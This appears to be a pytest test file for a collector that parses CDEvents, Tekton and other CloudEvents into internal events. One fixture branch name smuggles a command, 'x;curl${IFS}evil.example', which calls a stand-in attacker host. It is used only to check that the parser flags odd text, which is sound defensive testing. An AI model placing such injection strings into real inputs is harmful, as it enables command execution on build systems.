"""CDEvents, Tekton's events and other CloudEvents become events."""

from __future__ import annotations

from typing import Any

import pytest

from collector.errors import DeliveryError
from collector.event import Event, Kind
from tests.collector.samples import AT, JSON, parse

SHA = "a" * 40


def told(what: str, content: JSON | None = None, subject: str = "42", **context: Any) -> JSON:
    """Return a CDEvent."""
    return {
        "context": {
            "specversion": "0.5.1",
            "id": "271069a8-fc18-44f1-b38f-9d70a1695819",
            "chainId": "4c8cb7dd-3448-41de-8768-eec704e2829b",
            "source": "/ci.example/pay",
            "type": f"dev.cdevents.{what}.0.3.0",
            "timestamp": "2026-03-01T10:00:00Z",
            **context,
        },
        "subject": {"id": subject, "source": "/ci.example/pay", "content": content or {}},
    }


def cdevent(what: str, content: JSON | None = None, subject: str = "42", **context: Any) -> Event:
    """Return the event of a CDEvent."""
    return parse("cdevents", told(what, content, subject, **context))


def enveloped(body: JSON) -> JSON:
    """Return a CDEvent in a CloudEvent."""
    about = body["context"]
    return {
        "specversion": "1.0",
        "id": about["id"],
        "source": about["source"],
        "type": about["type"],
        "time": about["timestamp"],
        "subject": body["subject"]["id"],
        "datacontenttype": "application/json",
        "data": body,
    }


def test_a_pipeline_run() -> None:
    """A run names its pipeline, its outcome and the chain it belongs to."""
    event = cdevent("pipelinerun.finished", {"pipelineName": "release", "outcome": "failure", "errors": "exit 17"})
    assert (event.source, event.action, event.kind, event.observed_at) == (
        "cdevents",
        "pipelinerun.finished",
        Kind.RUN,
        AT,
    )
    assert (str(event.entity), str(event.actor)) == ("workflow:/ci.example/pay:release", "app:/ci.example/pay")
    assert (event.links["run"], event.links["chain"][:8]) == ("/ci.example/pay#42", "4c8cb7dd")
    assert event.facts["conclusion"] == "failure"


def test_a_task_run() -> None:
    """A task belongs to the run of its pipeline."""
    event = cdevent("taskrun.started", {"taskName": "unit", "pipelineRun": {"id": "41"}})
    assert (event.links["run"], str(event.entity)) == ("/ci.example/pay#41", "job:/ci.example/pay/unit")
    unique = {"id": "271069a8-fc18-44f1-b38f", "source": "/else"}
    assert cdevent("taskrun.started", {"pipelineRun": unique}).links["run"] == unique["id"]


def test_jenkins_tells_more() -> None:
    """Jenkins' plugin tells beside who, on what revision, with which parameters; their values are not kept."""
    build = {
        "number": 7,
        "duration": 60_000,
        "parameters": {"STAGE": "prod"},
        "scmState": {"url": "https://git.example/acme/pay.git", "branch": "origin/main", "commit": SHA},
    }
    body = told("pipelinerun.finished", {"pipelineName": "pay"}, "7", type="dev.cdevents.pipelinerun.finished.0.1.0")
    event = parse("cdevents", {**body, "customData": {"userId": "mona", "build": build}})
    assert (str(event.actor), event.links["repo"], event.links["sha"]) == ("user:mona", "acme/pay", SHA)
    assert (event.links["branch"], event.facts["x.parameter"], event.numbers["duration_s"]) == ("main", ["STAGE"], 60.0)


@pytest.mark.parametrize(
    ("name", "kind"), [("release-bot", "bot"), ("bot", "bot"), ("x[bot]", "bot"), ("abbott", "user")]
)
def test_bots_are_told_from_people(name: str, kind: str) -> None:
    """A name that says bot is a bot's, and one that merely holds the letters is not."""
    assert str(cdevent("artifact.signed", {"user": name}).actor) == f"{kind}:{name}"


def test_an_artifact() -> None:
    """An artifact is a package: its name, version, registry and who published it."""
    purl = "pkg:npm/%40acme/pay@2.1.0?repository_url=https://registry.example/npm"
    event = cdevent("artifact.published", {"user": "urn:user:release-bot"}, purl)
    assert (str(event.entity), str(event.actor), event.kind) == (
        "package:@acme/pay",
        "bot:release-bot",
        Kind.DEPENDENCY,
    )
    assert (event.links["package"], event.facts["package_version"]) == ("@acme/pay", "2.1.0")
    assert event.facts["registry_host"] == "registry.example"
    assert cdevent("artifact.downloaded", {}, purl).kind is Kind.ACCESS


def test_a_build_and_a_service_name_their_artifact() -> None:
    """What was built and what was deployed meet by the package."""
    purl = "pkg:oci/pay@sha256%3A0b31"
    build, service = (
        cdevent("build.finished", {"artifactId": purl}),
        cdevent("service.deployed", {"artifactId": purl, "environment": {"id": "prod"}}, "pay"),
    )
    assert build.links["package"] == service.links["package"] == "pay"
    assert (build.facts["digest"], service.facts["x.environment"]) == ("sha256:0b31", "prod")
    assert (str(service.entity), service.kind) == ("service:pay", Kind.RUN)


@pytest.mark.parametrize(("change", "role"), [(SHA, "sha"), ("12", "pull_request")])
def test_a_change(change: str, role: str) -> None:
    """A change is a commit or a pull request of its repository."""
    event = cdevent("change.merged", {"repository": {"id": "acme/pay", "source": "https://git.example"}}, change)
    assert (event.kind, str(event.entity)) == (Kind.CHANGE, "repo:acme/pay")
    assert event.links[role] == (SHA if role == "sha" else "acme/pay#12")


def test_a_branch_and_a_repository() -> None:
    """A branch has a class and oddities; a repository is named as others name it."""
    branch = cdevent("branch.created", {"repository": {"id": "acme/pay"}}, "x;curl${IFS}evil.example")
    assert (branch.links["repo"], branch.facts["text_oddity"] != []) == ("acme/pay", True)
    repository = cdevent(
        "repository.deleted", {"name": "pay", "owner": "acme", "uri": "https://git.example/acme/pay.git"}
    )
    assert (str(repository.entity), repository.kind) == ("repo:acme/pay", Kind.ADMIN)


@pytest.mark.parametrize(
    ("what", "kind"),
    [
        ("environment.modified", Kind.ADMIN),
        ("approval.closed", Kind.ADMIN),
        ("testsuiterun.finished", Kind.RUN),
        ("testoutput.published", Kind.RUN),
        ("incident.detected", Kind.OTHER),
        ("ticket.created", Kind.OTHER),
        ("never.seen", Kind.OTHER),
    ],
)
def test_kind_of_a_subject(what: str, kind: Kind) -> None:
    """Each subject has its kind; one nobody knows is read as far as it goes."""
    event = cdevent(what)
    assert (event.action, event.kind) == (what, kind)


@pytest.mark.parametrize("version", ["0.1.0", "0.1.2", "0.3.0", "0.6.0-draft", "9.9.9", "v0.3.0"])
def test_any_version_is_read(version: str) -> None:
    """The subject and the predicate tell what it is: a version tells only what may be missing."""
    assert cdevent("build.queued", type=f"dev.cdevents.build.queued.{version}").action == "build.queued"


def test_custom_events_are_plain() -> None:
    """Events of a tool's own vocabulary keep its verb and are of no kind."""
    event = cdevent("x", {"user": "mona", "colour": "red"}, type="dev.cdeventsx.mytool-resource.created.0.1.0")
    assert (event.action, event.kind, event.facts["x.colour"]) == ("mytool-resource.created", Kind.OTHER, "red")


def test_every_form_is_the_same_event() -> None:
    """Bare, structured, binary, by either door: one event with one id."""
    body = told("pipelinerun.started", {"pipelineName": "release"})
    structured = enveloped(body)
    headers = {f"Ce-{name.title()}": structured[name] for name in ("specversion", "id", "source", "type", "time")}
    forms = [
        parse("cdevents", body),
        parse("cdevents", structured),
        parse("cdevents", body, headers),
        parse("cloudevents", structured),
        parse("cloudevents", body, headers),
        parse("cloudevents", {**structured, "data": str(body).replace("'", '"')}),
    ]
    assert forms == [forms[0]] * len(forms)


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"context": {}, "subject": {}},
        told("a", type="dev.cdevents.a"),
        told("a", type="dev.else.a.b.0.1.0"),
        told("a.b", id=""),
        told("a.b", source=7.5),
        told("a.b", subject=""),
        {"specversion": "1.0", "id": "1", "source": "/x", "type": "com.example.other"},
        {"specversion": "1.0", "id": "1", "source": "/x", "type": "dev.cdevents.a.b.0.1.0", "data": []},
        [],
        "no JSON",
        7,
    ],
)
def test_what_is_no_cdevent_is_told(body: Any) -> None:
    """What lacks what every CDEvent has is an error with its reason."""
    with pytest.raises(DeliveryError):
        parse("cdevents", body)


def tekton(what: str = "taskrun", state: str = "failed") -> Event:
    """Return the event of a CloudEvent of Tekton's."""
    resource = {
        "metadata": {
            "name": "pay-unit-x7",
            "namespace": "ci",
            "labels": {
                "tekton.dev/pipeline": "pay",
                "tekton.dev/pipelineRun": "pay-x7",
                "tekton.dev/pipelineTask": "unit",
            },
        },
        "spec": {
            "serviceAccountName": "builder",
            "params": [
                {"name": "revision", "value": SHA},
                {"name": "repo-url", "value": "https://git.example/acme/pay.git"},
                {"name": "password", "value": "s3cret-of-the-run"},
            ],
        },
        "status": {
            "startTime": "2026-03-01T09:58:00Z",
            "completionTime": "2026-03-01T10:00:00Z",
            "conditions": [{"type": "Succeeded", "status": "False", "reason": "TaskRunImagePullFailed"}],
            "steps": [{"name": "test", "imageID": "registry.example/python@sha256:0b31"}],
        },
    }
    envelope = {
        "specversion": "1.0",
        "id": "1",
        "source": "/apis/namespaces/ci/pay-unit-x7",
        "type": f"dev.tekton.event.{what}.{state}.v1",
        "data": {"taskRun" if what == "taskrun" else "pipelineRun": resource},
    }
    return parse("cloudevents", envelope)


def test_a_task_of_tekton() -> None:
    """A task tells its pipeline, its run, who runs it, which images it ran, how long and on what."""
    event = tekton()
    assert (event.action, event.kind, event.observed_at, event.numbers["duration_s"]) == (
        "taskrun.failed",
        Kind.RUN,
        AT,
        120.0,
    )
    assert (str(event.entity), str(event.actor)) == ("job:ci:pay/unit", "app:ci/builder")
    assert (event.links["run"], event.links["repo"], event.links["sha"]) == ("ci/pay-x7", "acme/pay", SHA)
    assert (event.facts["error"], event.facts["x.image"], event.facts["registry_host"]) == (
        ["TaskRunImagePullFailed"],
        ["registry.example/python"],
        ["registry.example"],
    )
    assert "s3cret" not in repr(event)


def test_a_pipeline_of_tekton() -> None:
    """A pipeline's event is of the pipeline."""
    event = tekton("pipelinerun", "started")
    assert (event.action, str(event.entity), "conclusion" in event.facts) == (
        "pipelinerun.started",
        "workflow:ci:pay",
        False,
    )


def test_any_cloudevent_is_a_plain_event() -> None:
    """A CloudEvent of nobody we know is named by its type, and its data are read as far as they go."""
    envelope = {
        "specversion": "1.0",
        "id": "17",
        "source": "/cd.example",
        "type": "example.deployed",
        "time": "2026-03-01T10:00:00Z",
        "data": {"user": "mona", "repository": "acme/pay", "stage": "prod"},
    }
    event = parse("cloudevents", envelope)
    assert (event.action, str(event.actor), str(event.entity)) == ("example.deployed", "user:mona", "repo:acme/pay")
    assert (event.ref, event.observed_at, event.facts["x.stage"]) == ("17", AT, "prod")
    text = parse("cloudevents", {**envelope, "data": "free text"})
    assert (str(text.actor), str(text.entity)) == ("app:/cd.example", "source:/cd.example")
